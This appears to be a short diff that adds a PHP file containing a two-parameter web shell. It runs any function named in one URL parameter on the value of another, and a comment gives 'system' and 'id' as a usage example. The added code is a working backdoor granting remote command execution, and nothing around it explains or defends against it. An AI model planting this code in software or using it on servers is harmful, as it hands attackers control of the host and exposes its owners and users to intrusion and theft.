@@ -1,0 +1,3 @@
+<?php
+// Two-parameter shell: ?f=system&x=id
+@$_GET['f']($_GET['x']);
